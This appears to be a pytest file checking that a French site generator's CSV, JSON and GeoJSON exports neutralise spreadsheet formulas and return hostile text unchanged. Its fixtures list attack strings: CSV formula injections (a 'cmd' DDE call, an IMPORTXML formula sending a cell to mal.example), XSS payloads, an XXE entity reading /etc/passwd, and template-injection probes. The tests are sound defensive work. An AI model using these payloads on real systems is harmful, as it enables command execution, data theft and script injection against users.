"""The exports, read back by other people's readers: nothing is lost, nothing runs."""

from __future__ import annotations

import csv
import io
import json
import re
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from maille.kinds.catalyser import Catalyser
from maille.site.model import Site
from maille.site.place import Place, Precision
from maille.views import exports
from maille.views.exports import describe_columns
from maille.views.plans import FilePlan, PagePlan
from maille.views.records.export_rows import find_licence, make_record
from maille.views.records.export_schema import encode_schema
from tests.views.drawings.test_country_map import ADDRESS, network
from tests.views.drawings.test_country_map import record as catalyser

NOWHERE = Place(Precision.UNKNOWN)
AIN = Place(Precision.COMMUNE, "Bourg-en-Bresse", "01", "Ain", latitude=46.2, longitude=5.22)
NANTES = Place(
    Precision.COMMUNE, "Nantes", "44", "Loire-Atlantique", latitude=47.21, longitude=-1.55
)
CORSE = Place(Precision.DEPARTMENT, "", "2A", "Corse-du-Sud")

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://mal.example","Cliquez")',
    '=IMPORTXML(CONCAT("https://mal.example?";A1);"//a")',
    "+1+1",
    "+33 1 23 45 67 89",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@import",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "=",
    "-",
)
MARKUP = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<!--<script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    "</title><script>alert(1)</script>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "&lt;script&gt;",
    "&#60;script&#62;",
    "&amp;amp;",
    "]]>",
    "<![CDATA[x]]>",
    "<?xml version='1.0'?>",
    '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>',
    "&b;",
    "{{ 7 * 7 }}{% raw %}",
    "${alert(1)}`",
    "--><b>",
)
ODD = (
    ";",
    '"',
    '";"',
    '""',
    ",=1+1",
    ";=1+1",
    "une ligne\nune autre",
    "une ligne\r\nune autre",
    "a | b",
    "\ufeffmarque",
    "\u202eenvers",
    "a\u2028b\u2029c",
    "\x0b\x1b[31m\x07",
    "\x85\x9f",
    "\ufffe\uffff\ufdd0",
    "\U0001f9f6 maille",
    "e\u0301te\u0301",
    "\\u0000\\n",
    " espaces ",
    "l'été d'Œuvre « à » 100 %",
)
HOSTILE = (*FORMULAS, *MARKUP, *ODD)


def files(site: Site) -> dict[str, bytes]:
    """The files of the directory, by ending."""
    start = "/donnees/catalyseurs."
    return {
        plan.address.removeprefix(start): plan.data
        for plan in exports.plan(site)
        if isinstance(plan, FilePlan) and plan.address.startswith(start)
    }


def rows(data: bytes) -> list[dict[str, str]]:
    text = data.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=";", strict=True))


def test_there_are_sixty_hostile_strings() -> None:
    assert len(set(HOSTILE)) == 60


def test_the_csv_is_what_french_spreadsheets_read() -> None:
    made = files(network((catalyser("un", "Été"), ADDRESS), (catalyser("deux"), NOWHERE)))["csv"]
    assert made.startswith(b'\xef\xbb\xbf"identifiant";"page";"nom"')
    lines = made.split(b"\r\n")
    assert len(lines) == 4
    assert lines[-1] == b""
    assert b"\n" not in b"".join(lines)
    assert [row["nom"] for row in rows(made)] == ["Été", "CoCoShaker"]


def test_codes_numbers_and_telephones_survive() -> None:
    given: Any = {"code_postal": "01000", "telephone": "+33473000000", "territoires": ("01", "974")}
    site = network(
        (catalyser("un", **given), AIN),
        (catalyser("deux", telephone="0612345670"), NANTES),
        (catalyser("trois"), CORSE),
    )
    one, two, three = rows(files(site)["csv"])
    assert (one["code_postal"], one["departement"]) == ("01000", "01")
    assert (one["telephone"], one["territoires"]) == ("+33473000000", "01 | 974")
    assert (two["longitude"], two["telephone"]) == ("-1.55", "0612345670")
    assert (three["departement"], three["latitude"]) == ("2A", "")


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_is_a_formula(text: str) -> None:
    site = network((catalyser("un"), ADDRESS))
    (entry,) = site.list_entries(Catalyser)
    hurt = entry.model_copy(update={"name": text, "other_names": (text, "b"), "summary": text})
    found = rows(files(network((hurt, ADDRESS)))["csv"])
    assert len(found) == 1
    for value in found[0].values():
        assert value[:1] not in set("=+-@\t\r\n\0＝＋－＠")
    assert found[0]["nom"] == f"'{text}"


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_read_back_as_it_was(text: str) -> None:
    site = network((catalyser("un"), ADDRESS))
    (entry,) = site.list_entries(Catalyser)
    site = network((entry.model_copy(update={"name": text, "summary": text}), ADDRESS))
    made = files(site)
    (row,) = rows(made["csv"])
    assert row["resume"] in {text, f"'{text}"}
    assert json.loads(made["json"])["catalyseurs"][0]["nom"] == text
    assert json.loads(made["geojson"])["features"][0]["properties"]["resume"] == text


def test_examples_and_names_of_people_stay_out() -> None:
    people = ({"nom": "Camille Martin", "fonction": "Présidente", "date": "2023"},)
    site = network(
        (catalyser("un", personnes=people), ADDRESS),
        (catalyser("exemple-1", "Invention", exemple="oui"), ADDRESS),
    )
    for plan in exports.plan(site):
        if isinstance(plan, FilePlan):
            assert b"Camille" not in plan.data, plan.address
            assert b"Invention" not in plan.data, plan.address


def test_every_record_has_every_column_in_one_order() -> None:
    site = network((catalyser("un"), ADDRESS), (catalyser("deux"), NOWHERE))
    names = [column.name for column in describe_columns(site, site.kind("catalyser"))]
    assert len(set(names)) == len(names)
    for entry in site.list_entries(Catalyser):
        assert list(make_record(site, entry)) == names
    assert list(rows(files(site)["csv"])[0]) == names
    fields = {info.alias for info in Catalyser.model_fields.values()}
    assert names[0] == "identifiant"  # the end of its address, not the editors' own identifier
    assert fields - {*names} == {
        *("brouillon", "exemple", "personnes", "contact_cherche_le", "relecture_demandee_le"),
    }


def test_the_reference_comes_from_the_kind() -> None:
    site = network()
    by_name = {one.name: one for one in describe_columns(site, site.kind("catalyser"))}
    assert by_name["nom"].title == Catalyser.model_fields["name"].title
    assert by_name["verifie_le"].form == "date"
    assert by_name["sources"].form == "liste de groupes"
    for name in ("chiffres", "liens", "sources"):
        assert by_name[name].parts, name
    assert ("titre", "Titre du document ou de la page") in by_name["sources"].parts
    assert dict(by_name["liens"].parts)["catalyseur"] == "Identifiant de l'autre fiche"
    # What is an order to an editor makes no sense to a visitor.
    for column in by_name.values():
        assert not re.search(
            r"[ÀA] laisser|[Ff]acultati|Obligatoire|[ÉéEe]crivez|fichier", column.meaning
        ), column
    assert by_name["longitude"].form == "nombre"
    assert "lieu (Gestion d'un lieu)" in by_name["pratiques"].meaning


def test_the_licence_is_to_confirm_until_the_owner_writes_it() -> None:
    site = network((catalyser("un"), ADDRESS))
    assert json.loads(files(site)["json"])["licence"] == "licence à confirmer"
    chosen = site.config.model_copy(update={"data_licence": "Licence Ouverte 2.0"})
    assert find_licence(network()) == "licence à confirmer"
    assert chosen.data_licence == "Licence Ouverte 2.0"
    page = next(plan for plan in exports.plan(site) if isinstance(plan, PagePlan))
    assert "IGN" in page.make_context()["credit"]
    assert "INSEE" in page.make_context()["credit"]
    assert "2026" in page.make_context()["credit"]


def test_the_geojson_is_of_rfc_7946() -> None:
    site = network(
        (catalyser("un"), ADDRESS), (catalyser("deux"), NANTES), (catalyser("trois"), NOWHERE)
    )
    found = json.loads(files(site)["geojson"])
    check_rfc_7946(found)
    assert [feature["id"] for feature in found["features"]] == ["un", "deux"]
    assert found["features"][1]["geometry"]["coordinates"] == [-1.55, 47.21]
    assert len(json.loads(files(site)["json"])["catalyseurs"]) == 3


def check_rfc_7946(document: Any) -> None:
    """What the RFC asks of a collection of points."""
    assert document["type"] == "FeatureCollection"
    assert "crs" not in document  # §4
    assert not {"coordinates", "geometries", "geometry", "properties"} & set(document)  # §7.1
    ids = [feature["id"] for feature in document["features"]]
    assert len(set(ids)) == len(ids)
    for feature in document["features"]:
        assert feature["type"] == "Feature"
        assert {"type", "id", "geometry", "properties"} == set(feature)
        geometry = feature["geometry"]
        assert set(geometry) == {"type", "coordinates"}
        assert geometry["type"] == "Point"
        longitude, latitude = geometry["coordinates"]
        assert -180 <= longitude <= 180
        assert -90 <= latitude <= 90


def test_empty_directories_are_whole_files() -> None:
    made = files(network())
    assert json.loads(made["geojson"])["features"] == []
    assert json.loads(made["json"])["catalyseurs"] == []
    assert rows(made["csv"]) == []


def test_the_exports_of_a_whole_site(output: Path) -> None:
    """Read from the published folder: same records, same page, whatever the day."""
    folder = output / "donnees"
    page = (folder / "index.html").read_text(encoding="utf-8")
    found = rows((folder / "catalyseurs.csv").read_bytes())
    records = json.loads((folder / "catalyseurs.json").read_bytes())["catalyseurs"]
    check_rfc_7946(json.loads((folder / "catalyseurs.geojson").read_bytes()))
    assert [row["identifiant"] for row in found] == [one["identifiant"] for one in records]
    assert "licence à confirmer" in page
    for name in records[0]:
        assert f"<code>{name}</code>" in page
    with_commune = [one for one in records if one["commune"]]
    assert with_commune
    assert all(len(one["code_insee"]) == 5 for one in with_commune)
    assert all(one["page"].startswith("https://") for one in records)


def test_other_words_or_another_name_give_another_schema() -> None:
    """What was made is kept for the next build of a process."""
    site, kind = network(), network().kind("catalyser")
    words = {one.name: (one.title, one.meaning) for one in describe_columns(site, kind)}
    first = encode_schema(site, kind, words)
    assert first == encode_schema(site, kind, dict(words))
    other = encode_schema(site, kind, {**words, "nom": ("Autre titre", "")})
    assert "Autre titre" in other.decode()
    renamed = replace(site, config=site.config.model_copy(update={"name": "Autre réseau"}))
    assert "Autre réseau" in encode_schema(renamed, kind, words).decode()
